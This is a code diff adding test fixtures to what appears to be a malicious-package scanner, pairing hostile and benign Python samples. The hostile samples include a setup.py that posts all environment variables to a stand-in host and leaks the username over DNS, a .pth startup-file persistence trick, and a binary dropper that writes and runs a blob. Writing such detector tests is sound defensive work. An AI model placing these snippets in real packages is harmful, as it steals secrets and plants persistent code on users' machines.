@@ -159,6 +159,41 @@ export const SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
     match: { path: 'pkg/__init__.py', source: `PAYLOAD = "${longB64}"\n` },
     noMatch: { path: 'pkg/__init__.py', source: `TEXT = "${'lorem ipsum dolor sit amet, '.repeat(60)}"\n` },
   },
+  'env-exfil': {
+    match: {
+      path: 'evil-1.0/setup.py',
+      source:
+        'import os, requests, socket\nrequests.post("https://x.example/c", json=dict(os.environ))\nsocket.gethostbyname(f"{os.getlogin()}.abc.oast.fun")\n',
+    },
+    noMatch: {
+      path: 'pkg/client.py',
+      source:
+        'import os, requests, socket\ndef fetch(url):\n    return requests.get(url, timeout=5)\nip = socket.gethostbyname(socket.gethostname())\ndef home():\n    return os.getenv("HOME")\n',
+    },
+  },
+  'startup-file-write': {
+    match: {
+      path: 'pkg/__init__.py',
+      source:
+        'import site, os\nd = site.getsitepackages()[0]\nwith open(os.path.join(d, "zz" + ".pth"), "w") as f:\n    f.write("import pkg._boot")\n',
+    },
+    noMatch: {
+      path: 'pkg/__init__.py',
+      source: 'import os\nwith open("settings.json", "w") as f:\n    f.write("{}")\nPTH = "model.pth"\n',
+    },
+  },
+  'binary-dropper': {
+    match: {
+      path: 'pkg/__init__.py',
+      source:
+        'import os, subprocess, tempfile\ndef _go():\n    p = os.path.join(tempfile.gettempdir(), "svc")\n    with open(p, "wb") as f:\n        f.write(BLOB)\n    os.chmod(p, 0o755)\n    subprocess.Popen([p])\n_go()\n',
+    },
+    noMatch: {
+      path: 'pkg/tool.py',
+      source:
+        'import os, subprocess\nTOOL = os.path.join(os.path.dirname(__file__), "bin", "tool")\ndef run(args):\n    return subprocess.run([TOOL, *args], check=True)\n',
+    },
+  },
 };
 
 export const TEXT_SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
